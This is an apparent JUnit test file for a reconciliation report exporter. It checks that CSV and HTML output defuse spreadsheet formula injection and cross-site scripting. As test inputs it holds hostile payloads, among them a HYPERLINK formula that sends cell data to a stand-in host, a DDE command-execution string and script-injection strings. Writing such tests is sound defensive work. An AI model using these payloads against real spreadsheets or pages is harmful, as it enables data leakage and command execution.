package org.camelquickbooks.flow.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import org.camelquickbooks.model.Json;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names and Ids in the result of a reconciliation were written by others; people open it in a spreadsheet or a browser. */
class ReconciliationAttackTest {

    private static ObjectNode result(String value) {
        ObjectNode result = Json.object().put("company", value).put("at", value).put("differences", 1);
        ObjectNode flow = result.putArray("flows").addObject().put("flow", value);
        flow.putArray("differences")
                .addObject()
                .put("id", value)
                .put("was", value)
                .put("what", value);
        return result;
    }

    /** The cells of the only line, as a spreadsheet reads them. */
    private static List<String> cells(String csv) {
        String line = csv.substring(csv.indexOf("\r\n") + 2);
        return List.of(line.strip().split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1)).stream()
                .map(cell -> cell.startsWith("\"")
                        ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"")
                        : cell)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example?x=\"&A1,\"here\")",
                "=1+1",
                "=1+1\nsecond line",
                "=1+1\r\nsecond line",
                "+1+1",
                "-1+1",
                "-1+1\n",
                "@SUM(A1)",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\uff1d1+1",
                "\uff0b1",
                "\uff0d1+1",
                "\uff20SUM(A1)",
                "=cmd|' /C calc'!A0"
            })
    void aCellIsNoFormula(String value) {
        String csv = ReconciliationForm.CSV.write(result(value));
        assertThat(cells(csv))
                .contains("'" + value)
                .noneMatch(cell -> cell.matches("(?s)[\\s]*[=+@\uff1d\uff0b\uff0d\uff20-].*"));
    }

    /** Where a semicolon or a tab parts cells, as in many countries, none of them begins as a formula either. */
    @ParameterizedTest
    @ValueSource(strings = {"a;=1+1", "a\t=1+1", "a; =1+1", "a;@SUM(A1)", ";\t+1+1", "\t=1+1"})
    void whatFollowsASemicolonIsNoFormula(String value) {
        assertThat(ReconciliationForm.CSV.write(result(value)).split("[;\\t]"))
                .noneMatch(part -> part.matches("(?s)\\s*[=+@].*"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-12.50", "100", "0.00", "-3", "a=b", "a-b", "INV-1"})
    void whatIsNoneStaysAsItIs(String value) {
        assertThat(cells(ReconciliationForm.CSV.write(result(value)))).contains(value);
    }

    @Test
    void aNameIsNoHtml() {
        for (String value :
                List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onload='x", "&lt;b&gt;")) {
            String html = ReconciliationForm.HTML.write(result(value));
            assertThat(html).doesNotContain("<script", "<img", "' onload", "<td>&lt;b&gt;");
        }
    }
}
